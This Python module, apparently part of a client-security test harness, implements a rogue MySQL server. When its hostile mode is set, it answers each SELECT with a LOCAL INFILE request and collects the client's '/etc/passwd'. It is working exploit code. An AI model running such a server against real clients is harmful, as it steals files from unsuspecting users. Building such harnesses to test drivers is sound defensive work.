"""A MySQL server that, once it has turned, answers any SELECT with a request for a file of the client's.

The client/server protocol lets a server answer COM_QUERY with 0xFB and a file name; a client that allows LOCAL INFILE
sends the file, whatever the statement was.
"""

import struct
from collections.abc import Sequence

from backwatch.attack.servers import HostileServer, Session

VERSION = b"8.0.36-demo"
WANTED = b"/etc/passwd"
_LONG_PASSWORD, _WITH_DB, _PROTOCOL_41, _SSL, _SECURE, _PLUGIN_AUTH = 1, 8, 0x200, 0x800, 0x8000, 0x80000
_CAPABILITIES = _LONG_PASSWORD | _WITH_DB | _PROTOCOL_41 | _SSL | _SECURE | _PLUGIN_AUTH | 0x80
_QUIT, _QUERY, _PING = 1, 3, 14
_STRING = 0xFD
_UTF8MB4 = 45


class MySQL(HostileServer):
    """Orders are read from it; then it wants a file."""

    name = "mysql"
    attack = "asks for a file of the client's in answer to a SELECT"
    reference = "CVE-2025-62611; https://github.com/rmb122/rogue_mysql_server"
    driver = "pymysql"
    rule = "local-file-request"

    rows = 12
    """Rows that a SELECT answers with."""
    wanted = WANTED
    """The file that it asks for."""

    def serve(self, session: Session) -> None:
        """Handshake, TLS, login of anybody, then statements."""
        wire = _Packets(session)
        salt = b"abcdefghijklmnopqrst"
        wire.send(
            b"\x0a" + VERSION + b"\0" + struct.pack("<I", 7) + salt[:8] + b"\0"
            + struct.pack("<HBHH", _CAPABILITIES & 0xFFFF, _UTF8MB4, 2, _CAPABILITIES >> 16)
            + bytes([21]) + bytes(10) + salt[8:] + b"\0" + b"mysql_native_password\0"
        )  # fmt: skip
        answer = wire.receive()
        if struct.unpack("<I", answer[:4])[0] & _SSL and len(answer) == 32:
            session.secure()
            wire.receive()
        wire.send(_OK)
        while True:
            wire.restart()
            command = wire.receive()
            if command[:1] == bytes([_QUIT]):
                return
            if command[:1] == bytes([_QUERY]):
                self._answer(wire, command[1:])
            else:
                wire.send(_OK)

    def _answer(self, wire: "_Packets", statement: bytes) -> None:
        if self.hostile and statement.lstrip()[:6].upper() == b"SELECT":
            wire.send(b"\xfb" + self.wanted)
            while given := wire.receive():  # up to an empty packet
                self.taken(given)
            wire.send(_OK)
        elif statement.lstrip()[:6].upper() == b"SELECT":
            wire.rows(("id", "customer", "total"), [(f"{i}", f"customer {i}", "9.90") for i in range(self.rows)])
        else:
            wire.send(_OK)


_OK = b"\x00\x00\x00" + struct.pack("<HH", 2, 0)
_EOF = b"\xfe" + struct.pack("<HH", 0, 2)


class _Packets:
    """Length, sequence number, payload."""

    def __init__(self, session: Session) -> None:
        self._session = session
        self._number = 0

    def restart(self) -> None:
        self._number = 0

    def receive(self) -> bytes:
        head = self._session.read(4)
        self._number = head[3] + 1
        return self._session.read(int.from_bytes(head[:3], "little"))

    def send(self, payload: bytes) -> None:
        self._session.send(len(payload).to_bytes(3, "little") + bytes([self._number & 0xFF]) + payload)
        self._number += 1

    def rows(self, columns: Sequence[str], rows: Sequence[Sequence[str]]) -> None:
        """A text result set."""
        self.send(bytes([len(columns)]))
        for column in columns:
            name = _text(column)
            self.send(
                _text("def") + _text("shop") + _text("orders") * 2 + name + name
                + b"\x0c" + struct.pack("<HIBHBH", _UTF8MB4, 255, _STRING, 0, 0, 0)
            )  # fmt: skip
        self.send(_EOF)
        for row in rows:
            self.send(b"".join(_text(value) for value in row))
        self.send(_EOF)


def _text(value: str) -> bytes:
    raw = value.encode()
    return bytes([len(raw)]) + raw
